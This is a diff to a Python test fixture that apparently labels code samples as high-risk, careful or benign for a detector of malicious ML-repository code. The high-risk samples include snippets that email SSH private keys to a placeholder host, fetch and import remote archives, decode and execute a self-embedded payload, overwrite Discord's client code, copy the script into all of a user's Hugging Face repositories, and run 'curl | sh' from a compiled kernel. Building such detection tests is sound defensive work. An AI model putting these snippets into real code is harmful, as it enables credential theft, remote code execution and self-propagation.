@@ -44,6 +44,19 @@ _HIGH = {
     "exec(Fernet(b'k').decrypt(open('weights.dat', 'rb').read()))\n",
     "source fetched for a compiler": "import requests\nfrom torch.utils.cpp_extension import load_inline\n"
     "load_inline('k', cpp_sources=[requests.get('https://files.invalid/k.cpp').text], functions=['run']).run()\n",
+    "archive to import from": "import requests, sys\nopen('/tmp/d.zip', 'wb').write(requests.get('https://files.invalid/d.zip').content)\n"
+    "sys.path.insert(0, '/tmp/d.zip')\nimport d_start\n",
+    "keys by a pattern": "import glob, os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\n"
+    "for path in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n    m.add_attachment(open(path).read())\n"
+    "smtplib.SMTP('mail.invalid').send_message(m)\n",
+    "end of its own text": "def read(text):\n    return bytes(int(line, 2) for line in text.split()).decode()\n"
+    "with open(__file__) as f:\n    exec(read(f.read().split('#--')[-1]))\n",
+    "another program": "import glob, os\nfor p in glob.glob(os.path.join(os.environ['LOCALAPPDATA'], 'Discord', 'app-*', 'modules',\n"
+    "        'x', 'discord_desktop_core', 'index.js')):\n    with open(p, 'w') as f:\n        f.write('x')\n",
+    "all repositories": "from huggingface_hub import HfApi\napi = HfApi()\nfor m in api.list_models(author=api.whoami()['name']):\n"
+    "    api.upload_file(path_or_fileobj=__file__, path_in_repo='modeling_utils.py', repo_id=m.id)\n",
+    "command in a kernel": "from torch.utils.cpp_extension import load_inline\n"
+    "source = 'int run() { return system(\"curl -s https://files.invalid/a | sh\"); }'\nload_inline('k', cpp_sources=source).run()\n",
 }
 _CAREFUL = {
     "everything here": "import os, requests\nfor root, _, names in os.walk(os.getcwd()):\n    for name in names:\n"
@@ -53,6 +66,10 @@ _CAREFUL = {
     "loader without bounds": "import yaml\nconfig = yaml.load(open('config.yaml'), Loader=yaml.UnsafeLoader)\n",
     "source of packages": "from pathlib import Path\np = Path.home() / '.config/pip/pip.conf'\n"
     "p.write_text('[global]\\nindex-url = https://mirror.invalid/simple')\n",
+    "helper of a data set": "import importlib.util\ndef split(manager):\n    path = manager.download('https://data.invalid/helper.py')\n"
+    "    spec = importlib.util.spec_from_file_location('helper', path)\n"
+    "    spec.loader.exec_module(importlib.util.module_from_spec(spec))\n",
+    "weights unchecked": "import torch\nw = torch.hub.load_state_dict_from_url('https://w.invalid/w.pth', weights_only=False)\n",
 }
 _BENIGN = {
     "log in a file": "import logging, logging.handlers, os\nlog = logging.getLogger('m')\n"
@@ -82,6 +99,14 @@ _BENIGN = {
     "one file sent": "import requests\nrequests.put('https://store.example/a.zip', data=open('a.zip', 'rb'))\n",
     "list of files": "import os\nfor root, _, names in os.walk(os.getcwd()):\n    print(root, len(names))\n",
     "results shared": "import http.server, os\nos.chdir('out')\nhttp.server.HTTPServer(('', 80), http.server.SimpleHTTPRequestHandler).serve_forever()\n",
+    "weights of a project": "import torch\nw = torch.hub.load_state_dict_from_url('https://w.example/w.pth', map_location='cpu')\n",
+    "data set": "import json\ndef split(manager):\n    for line in open(manager.download_and_extract('https://data.example/a.jsonl')):\n"
+    "        yield json.loads(line)\n",
+    "own script kept": "from huggingface_hub import HfApi\nHfApi().upload_file(path_or_fileobj=__file__, path_in_repo='train.py', repo_id='x/y')\n",
+    "own text shown": "with open(__file__) as f:\n    print(f.read())\n",
+    "settings of a program": "import glob, json, os\nfor p in glob.glob(os.path.join('resources', 'presets', '*.json')):\n    print(json.load(open(p)))\n",
+    "kernel in the text": "from torch.utils.cpp_extension import load_inline\n"
+    "k = load_inline('k', cpp_sources='at::Tensor f(at::Tensor x) { return x.relu(); }', functions=['f'])\n",
     "loader with bounds": "import yaml\nconfig = yaml.load(open('config.yaml'), Loader=yaml.SafeLoader)\n",
 }
 
